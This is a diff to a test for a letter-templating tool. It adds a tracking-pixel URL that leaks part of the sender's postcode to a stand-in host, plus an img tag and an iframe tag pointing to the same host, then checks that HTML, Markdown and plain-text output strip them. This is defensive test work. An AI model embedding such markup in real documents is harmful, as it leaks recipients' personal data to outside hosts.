@@ -341,14 +341,18 @@ def test_page_break_in_a_template_reaches_docx_as_a_space(tmp_path: Path) -> Non
 
 
 def test_html_letters_load_nothing_from_elsewhere(tmp_path: Path) -> None:
-    body = "![tracking pixel](https://evil.example/p.gif?who={{ sender.postcode[:3] }})\n\nText."
+    body = (
+        "![tracking pixel](https://evil.example/p.gif?who={{ sender.postcode[:3] }})\n\n"
+        'Text. <img src="https://evil.example/i.png"> <IFRAME SRC=//evil.example/f></iframe>'
+    )
     campaign = campaign_with_template(tmp_path / "c", body)
 
     html = write("--campaign", str(campaign), "--template", "t", "-f", "html")
     markdown = write("--campaign", str(campaign), "--template", "t", "-f", "md")
+    text = write("--campaign", str(campaign), "--template", "t", "-f", "txt")
 
     assert html.exit_code == 0, html.stderr
-    for output in (html.stdout, markdown.stdout):
+    for output in (html.stdout, markdown.stdout, text.stdout):
         assert "evil.example" not in output
         assert "tracking pixel" in output
     assert "<img" not in html.stdout
